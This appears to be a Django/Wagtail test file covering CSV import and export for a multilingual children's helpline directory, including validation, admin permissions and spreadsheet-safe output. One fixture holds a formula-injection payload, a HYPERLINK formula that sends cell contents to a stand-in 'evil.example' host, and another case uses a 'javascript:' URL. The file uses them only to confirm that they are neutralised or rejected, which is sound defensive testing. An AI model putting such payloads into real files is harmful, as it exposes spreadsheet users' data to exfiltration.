import csv
import datetime
import io
import tempfile
from pathlib import Path
from unittest import mock

from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import TestCase
from django.urls import reverse

from helplines.csvio import COLUMNS, MAX_CSV_BYTES, CsvImportError, export_csv, import_csv
from helplines.factories import HelplineFactory
from helplines.models import Helpline

LANGUAGES = ["en", "fr", "es", "ru", "ar", "zh_hans"]
NAMES = {
    "en": "Childline",
    "fr": "Ligne des enfants",
    "es": "Línea de la infancia",
    "ru": "Детский телефон",
    "ar": "خط الطفل",
    "zh_hans": "儿童热线",
}


def snapshot():
    return list(Helpline.objects.rewrite(False).order_by("key").values())


def export_text():
    out = io.StringIO()
    export_csv(out)
    return out.getvalue()


def rows_of(text):
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def csv_bytes(rows):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def good_row(**overrides):
    row = dict.fromkeys(COLUMNS, "")
    row.update(
        key="ie-childline",
        country="IE",
        name_en="ISPCC Childline",
        phone_numbers="116 111",
        free_of_charge="yes",
        serves_children="yes",
        serves_parents="no",
        needs_verification="yes",
    )
    row.update(overrides)
    return row


class CsvRoundTripTests(TestCase):
    def test_export_then_import_gives_back_every_field_in_all_six_languages(self):
        HelplineFactory(
            key="gb-childline",
            country="GB",
            **{f"name_{code}": name for code, name in NAMES.items()},
            **{f"hours_{code}": f"24/7 ({code})" for code in LANGUAGES},
            **{
                f"notes_{code}": f"Note, with “quotes”\nand a new line ({code})"
                for code in LANGUAGES
            },
            phone_numbers="0800 1111\n116 111",
            sms="+44 7700 900123",
            whatsapp="+44 7700 900124",
            chat_url="https://example.org/chat",
            email="help@example.org",
            web_url="https://example.org/",
            languages="en, cy",
            free_of_charge="yes",
            serves_parents=True,
            last_verified="2026-01-31",
            needs_verification=False,
        )
        HelplineFactory(key="ke-childline", country="KE", phone_numbers="116")
        before = snapshot()
        text = export_text()
        self.assertEqual(rows_of(text)[0]["name_ar"], "خط الطفل")
        self.assertEqual(rows_of(text)[0]["name_zh_hans"], "儿童热线")
        Helpline.objects.all().delete()

        report = import_csv(text.encode())

        self.assertEqual((report.created, report.updated), (2, 0))
        after = snapshot()
        for row in before + after:
            row.pop("id")
        self.assertEqual(after, before)

    def test_import_updates_helplines_by_key_instead_of_duplicating_them(self):
        helpline = HelplineFactory(key="gb-childline", name_en="Old name")
        rows = rows_of(export_text())
        rows[0]["name_en"] = "New name"
        report = import_csv(csv_bytes(rows))
        self.assertEqual((report.created, report.updated), (0, 1))
        helpline.refresh_from_db()
        self.assertEqual(helpline.name_en, "New name")
        self.assertEqual(Helpline.objects.count(), 1)

    def test_management_commands_round_trip_the_directory(self):
        HelplineFactory(key="gb-childline", name_ar="خط الطفل")
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "helplines.csv"
            call_command("export_helplines", str(path), stdout=io.StringIO())
            Helpline.objects.all().delete()
            call_command("import_helplines", str(path), stdout=io.StringIO())
        self.assertEqual(Helpline.objects.get().name_ar, "خط الطفل")

    def test_import_command_reports_bad_rows_and_imports_nothing(self):
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "bad.csv"
            path.write_bytes(csv_bytes([good_row(), good_row(key="x", country="ZZ")]))
            with self.assertRaisesMessage(CommandError, "Line 3, column country"):
                call_command("import_helplines", str(path), stdout=io.StringIO())
        self.assertEqual(Helpline.objects.count(), 0)


class BadCsvTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        HelplineFactory(key="gb-childline", name_en="Childline")

    def assertRejected(self, data, *expected):
        before = snapshot()
        with self.assertRaises(CsvImportError) as raised:
            import_csv(data)
        message = "\n".join(raised.exception.errors)
        for text in expected:
            self.assertIn(text, message)
        self.assertEqual(snapshot(), before)

    def test_one_bad_row_among_good_ones_imports_nothing_and_names_its_line(self):
        rows = [
            good_row(key="ie-childline"),
            good_row(key="de-nummer", country="DE"),
            good_row(key="bad", phone_numbers="call us"),
        ]
        self.assertRejected(csv_bytes(rows), "Line 4, column phone_numbers")
        self.assertFalse(Helpline.objects.filter(key="ie-childline").exists())

    def test_each_kind_of_bad_value_is_reported_with_its_line(self):
        cases = {
            "country": (good_row(country="XX"), "column country"),
            "phone": (good_row(phone_numbers="0800 CHILD"), "column phone_numbers"),
            "sms": (good_row(sms="text me"), "column sms"),
            "boolean": (good_row(serves_parents="maybe"), "write yes or no, not “maybe”"),
            "date": (good_row(last_verified="31/01/2026"), "YYYY-MM-DD"),
            "choice": (good_row(free_of_charge="sometimes"), "column free_of_charge"),
            "email": (good_row(email="not-an-address"), "column email"),
            "url": (good_row(web_url="javascript:alert(1)"), "column web_url"),
            "language": (good_row(languages="English"), "column languages"),
            "key": (good_row(key="not a slug"), "column key"),
            "english name": (good_row(name_en=""), "column name_en"),
            "no contact": (good_row(phone_numbers=""), "Give at least one way"),
        }
        for kind, (row, expected) in cases.items():
            with self.subTest(kind):
                self.assertRejected(csv_bytes([row]), "Line 2", expected)

    def test_a_key_repeated_in_the_file_is_reported(self):
        self.assertRejected(
            csv_bytes([good_row(), good_row()]),
            "Line 3: the key “ie-childline” is already used on line 2.",
        )

    def test_a_row_with_too_few_or_too_many_cells_is_reported(self):
        header = ",".join(COLUMNS)
        self.assertRejected(
            f"{header}\nie-childline,IE\n".encode(), "Line 2: the row does not have"
        )
        self.assertRejected(f"{header}\n{',' * len(COLUMNS)}x\n".encode(), "Line 2")

    def test_missing_and_unknown_columns_are_reported_before_any_row(self):
        columns = [c for c in COLUMNS if c != "name_ar"] + ["phone"]
        data = (",".join(columns) + "\n").encode()
        self.assertRejected(data, "missing column(s): name_ar", "unknown column(s): phone")

    def test_a_file_that_is_not_utf8_is_refused(self):
        data = csv_bytes([good_row(name_en="Línea")]).decode().encode("latin-1")
        self.assertRejected(data, "not UTF-8")

    def test_an_empty_or_oversized_file_is_refused(self):
        self.assertRejected(b"", "The file is empty.")
        self.assertRejected(b"x" * (MAX_CSV_BYTES + 1), "too big")

    def test_errors_are_translated(self):
        from django.utils import translation

        with translation.override("fr"), self.assertRaises(CsvImportError) as raised:
            import_csv(csv_bytes([good_row(country="XX")]))
        self.assertIn("Ligne 2, colonne country", raised.exception.errors[0])


class CsvAdminViewTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        User = get_user_model()
        cls.pupil = User.objects.create_user("pupil", password="pw")
        cls.translator = User.objects.create_user("translator", password="pw")
        admin_access = Permission.objects.get(codename="access_admin")
        cls.translator.user_permissions.add(admin_access)
        cls.editor = User.objects.create_user("editor", password="pw")
        editors = Group.objects.create(name="Helpline editors")
        editors.permissions.add(
            admin_access,
            *Permission.objects.filter(
                codename__in=["add_helpline", "change_helpline", "view_helpline"]
            ),
        )
        cls.editor.groups.add(editors)
        HelplineFactory(key="gb-childline", name_ar="خط الطفل")

    def upload(self, data):
        return self.client.post(
            reverse("helplines_admin:import"),
            {"file": SimpleUploadedFile("helplines.csv", data, content_type="text/csv")},
        )

    def test_a_visitor_or_a_non_staff_user_cannot_reach_import_or_export(self):
        for url in (reverse("helplines_admin:import"), reverse("helplines_admin:export")):
            response = self.client.get(url)
            self.assertEqual(response.status_code, 302)
            self.client.force_login(self.pupil)
            response = self.client.get(url)
            self.assertNotEqual(response.status_code, 200)
            self.assertNotIn("gb-childline", response.content.decode())
            self.client.logout()

    def test_an_admin_user_without_helpline_permissions_is_turned_away_and_changes_nothing(self):
        # Wagtail answers a refused admin view by sending the user back to the dashboard.
        self.client.force_login(self.translator)
        response = self.client.get(reverse("helplines_admin:export"))
        self.assertRedirects(response, reverse("wagtailadmin_home"), fetch_redirect_response=False)
        self.assertNotIn("gb-childline", response.content.decode())
        before = snapshot()
        response = self.upload(csv_bytes([good_row()]))
        self.assertRedirects(response, reverse("wagtailadmin_home"), fetch_redirect_response=False)
        self.assertEqual(snapshot(), before)

    def test_an_editor_exports_and_imports_through_the_admin(self):
        self.client.force_login(self.editor)
        response = self.client.get(reverse("helplines_admin:export"))
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        text = response.content.decode()
        self.assertIn("خط الطفل", text)
        rows = rows_of(text)
        rows.append(good_row())
        response = self.upload(csv_bytes(rows))
        self.assertRedirects(response, reverse("wagtailsnippets_helplines_helpline:list"))
        self.assertTrue(Helpline.objects.filter(key="ie-childline").exists())

    def test_the_export_is_named_after_today_in_the_sites_time_zone(self):
        self.client.force_login(self.editor)
        # At 20:00 UTC it is already the next day in Kiribati (UTC+14, no summer time).
        # Two days ago, so the name cannot come from the real clock (and the signed-in
        # session, made now, is still valid).
        real = datetime.datetime.now(datetime.UTC)
        now = (real - datetime.timedelta(days=2)).replace(hour=20, minute=0)
        tomorrow = (now + datetime.timedelta(days=1)).date().isoformat()
        with (
            self.settings(TIME_ZONE="Pacific/Kiritimati"),
            mock.patch("django.utils.timezone.now", return_value=now),
        ):
            response = self.client.get(reverse("helplines_admin:export"))
        self.assertEqual(response.status_code, 200)
        self.assertIn(f'filename="helplines-{tomorrow}.csv"', response["Content-Disposition"])

    def test_a_bad_upload_shows_the_lines_and_imports_nothing(self):
        self.client.force_login(self.editor)
        before = snapshot()
        response = self.upload(csv_bytes([good_row(), good_row(key="b", last_verified="soon")]))
        self.assertContains(response, "Line 3, column last_verified", status_code=400)
        self.assertContains(response, "Nothing was imported", status_code=400)
        self.assertEqual(snapshot(), before)

    def test_the_snippet_listing_links_to_csv_and_the_editor_has_a_tab_per_language(self):
        self.client.force_login(self.editor)
        response = self.client.get(reverse("wagtailsnippets_helplines_helpline:list"))
        self.assertContains(response, reverse("helplines_admin:import"))
        helpline = Helpline.objects.get()
        response = self.client.get(
            reverse("wagtailsnippets_helplines_helpline:edit", args=[helpline.pk])
        )
        for name in ("English", "Français", "Español", "Русский", "العربية", "简体中文"):
            self.assertContains(response, name)
        self.assertContains(response, 'name="name_zh_hans"')
        self.assertContains(response, 'value="خط الطفل"')

    def test_an_editor_adds_a_helpline_with_its_translations_in_the_snippet_form(self):
        self.client.force_login(self.editor)
        data = {
            "key": "ee-lasteabi",
            "country": "EE",
            "phone_numbers": "116 111",
            "free_of_charge": "yes",
            "serves_children": "on",
            "needs_verification": "on",
            "name_en": "Lasteabi",
            "name_ru": "Lasteabi (детская линия)",
        }
        response = self.client.post(reverse("wagtailsnippets_helplines_helpline:add"), data)
        self.assertEqual(response.status_code, 302, response.content[:2000])
        helpline = Helpline.objects.get(key="ee-lasteabi")
        self.assertEqual(helpline.name_ru, "Lasteabi (детская линия)")
        self.assertTrue(helpline.needs_verification)


class SpreadsheetSafeCsvTests(TestCase):
    """The export opens safely in spreadsheets in every language, and imports back."""

    @classmethod
    def setUpTestData(cls):
        User = get_user_model()
        cls.editor = User.objects.create_superuser("admin", password="pw")

    def export_response(self):
        self.client.force_login(self.editor)
        return self.client.get(reverse("helplines_admin:export"))

    def test_formulas_are_neutralised_and_phone_numbers_survive_the_round_trip(self):
        HelplineFactory(
            key="gb-childline",
            name_en='=HYPERLINK("http://evil.example/?"&A1,"Help")',
            name_ar="@SUM(1+1)",
            phone_numbers="+44 800 1111\n0800 1111",
            sms="+44 7700 900123",
            notes_en="-1 is not a formula here",
        )
        before = snapshot()
        response = self.export_response()
        rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
        self.assertEqual(rows[0]["name_en"], '\'=HYPERLINK("http://evil.example/?"&A1,"Help")')
        self.assertEqual(rows[0]["name_ar"], "'@SUM(1+1)")
        self.assertEqual(rows[0]["phone_numbers"], "'+44 800 1111; 0800 1111")
        self.assertEqual(rows[0]["sms"], "'+44 7700 900123")
        self.assertEqual(rows[0]["notes_en"], "'-1 is not a formula here")

        Helpline.objects.all().delete()
        report = import_csv(response.content)

        self.assertEqual(report.created, 1)
        after = snapshot()
        for row in before + after:
            row.pop("id")
        self.assertEqual(after, before)
        self.assertEqual(Helpline.objects.get().phones[0]["number"], "+44 800 1111")

    def test_export_is_utf8_with_a_byte_order_mark_and_crlf_line_ends(self):
        HelplineFactory(
            key="eg-child", country="EG", name_ar="خط نجدة الطفل", phone_numbers="16000"
        )
        HelplineFactory(
            key="cn-12355", country="CN", name_zh_hans="青少年服务台", phone_numbers="12355"
        )
        data = self.export_response().content
        self.assertTrue(data.startswith(b"\xef\xbb\xbf"))
        self.assertEqual(data.count(b"\r\n"), 3)
        self.assertNotIn(b"\n", data.replace(b"\r\n", b""))
        text = data.decode("utf-8-sig")
        self.assertIn("خط نجدة الطفل", text)
        self.assertIn("青少年服务台", text)
        out = io.StringIO()
        export_csv(out)
        self.assertEqual(out.getvalue().encode(), data)

    def test_a_file_saved_with_a_byte_order_mark_imports_arabic_and_chinese(self):
        data = "\ufeff".encode() + csv_bytes(
            [
                good_row(key="eg-child", country="EG", name_ar="خط نجدة الطفل"),
                good_row(key="cn-12355", country="CN", name_zh_hans="青少年服务台"),
            ]
        ).replace(b"\n", b"\r\n")
        report = import_csv(data)
        self.assertEqual(report.created, 2)
        self.assertEqual(Helpline.objects.get(key="eg-child").name_ar, "خط نجدة الطفل")
        self.assertEqual(Helpline.objects.get(key="cn-12355").name_zh_hans, "青少年服务台")

    def test_the_export_command_writes_the_same_bytes(self):
        HelplineFactory(key="gb-childline", phone_numbers="+44 800 1111")
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "helplines.csv"
            call_command("export_helplines", str(path), stdout=io.StringIO())
            self.assertEqual(path.read_bytes(), self.export_response().content)
